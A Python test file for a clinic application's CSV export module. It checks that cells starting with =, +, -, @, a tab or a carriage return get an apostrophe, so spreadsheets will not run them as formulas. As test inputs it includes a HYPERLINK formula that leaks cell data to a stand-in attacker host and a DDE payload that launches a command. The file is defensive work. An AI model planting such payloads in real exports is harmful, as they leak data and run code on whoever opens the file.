"""CSV exports cannot smuggle a formula into the spreadsheet that opens them (OWASP)."""

from __future__ import annotations

import pathlib

import pytest

from ketaclinic.apps.web.csv_export import csv_lines, neutralise

SRC = pathlib.Path(__file__).resolve().parents[2] / "src" / "ketaclinic"
HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-2.5", "-2.5"),
        ("+40", "+40"),
        ("Rivera", "Rivera"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell, written):
    assert neutralise(cell) == written


def test_header_and_rows_are_neutralised_line_by_line():
    lines = list(csv_lines(["a", "=b"], [["=1+1", 2], ["ok", "-7"]]))
    assert lines == ["a,'=b\r\n", "'=1+1,2\r\n", "ok,-7\r\n"]


def test_every_csv_export_writes_through_the_shared_writer():
    writers = sorted(
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    )
    assert writers == ["apps/web/csv_export.py"]


def test_the_audit_export_neutralises_a_username_written_as_a_formula(client, clinic):
    from tests.personas import make_user

    from ketaclinic.apps.audit.choices import Action
    from ketaclinic.apps.audit.recorder import record_event

    attacker = make_user(HYPERLINK, None, [clinic.site_a])
    record_event(None, Action.VIEW, object_type="page", actor=attacker, site=clinic.site_a)
    client.force_login(clinic.director)
    response = client.get("/audit/export.csv")
    text = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK(" in text
    assert ",=HYPERLINK(" not in text


def test_the_ledger_export_neutralises_a_lot_number_written_as_a_formula(
    client, clinic, fixed_clock
):
    import datetime as dt

    from ketaclinic.apps.ledger.choices import Drug, Measure, ProductForm
    from ketaclinic.apps.ledger.models import Product
    from ketaclinic.apps.ledger.movements import receive_stock

    product = Product.objects.create(
        name="Ketamine HCl 10 mg/mL 20 mL",
        ndc="0409-2051-05",
        drug=Drug.KETAMINE_HCL,
        form=ProductForm.SOLUTION,
        strength_mg="10",
        measure=Measure.MICROLITRE,
        package_quantity=20000,
    )
    receive_stock(
        site=clinic.site_a,
        product=product,
        lot_number="=1+2",
        expires_on=dt.date(2027, 6, 30),
        containers=1,
        supplier_name="@Henry Schein",
        supplier_address="135 Duryea Road, Melville, NY 11747",
        supplier_dea="RH0123456",
        invoice="-INV-2026-0042",
        user=clinic.nurse,
    )
    client.force_login(clinic.director)
    response = client.get("/ledger/reports/ledger.csv")
    text = b"".join(response.streaming_content).decode()
    assert ",'=1+2," in text
    assert ",'@Henry Schein," in text
    assert ",'-INV-2026-0042," in text


def test_every_view_answering_csv_streams_the_shared_writers_lines():
    """The audit, claims, ledger and outcomes exports (every ``text/csv`` answer) write through
    ``csv_lines``, so every cell of every export is neutralised."""
    answering_csv = sorted(
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if "text/csv" in path.read_text() and path.name != "csv_export.py"
    )
    assert answering_csv == [
        "apps/auditpage/views.py",
        "apps/billing/views.py",
        "apps/ledger/views/reports.py",
        "apps/outcomes/views.py",
    ]
    for relative in answering_csv:
        text = (SRC / relative).read_text()
        assert "csv_lines(" in text, relative
